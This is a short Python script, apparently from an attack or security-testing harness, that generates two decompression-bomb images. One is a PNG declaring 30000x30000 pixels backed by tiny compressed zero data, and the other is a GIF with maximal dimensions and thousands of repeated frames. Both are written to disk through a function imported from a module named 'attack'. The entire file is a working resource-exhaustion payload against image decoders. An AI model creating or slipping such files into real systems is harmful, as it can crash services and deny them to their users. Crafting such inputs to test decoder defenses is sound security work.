import struct
import zlib

from attack import leave


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


packer = zlib.compressobj(9)
rows = b"".join(packer.compress(bytes(3751)) for _ in range(3000)) + packer.flush()
header = struct.pack(">IIBBBBB", 30000, 30000, 1, 0, 0, 0, 0)
leave("bomb.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
frame = b"\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0"
leave("bomb.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + frame * 5000 + b"\x3b")
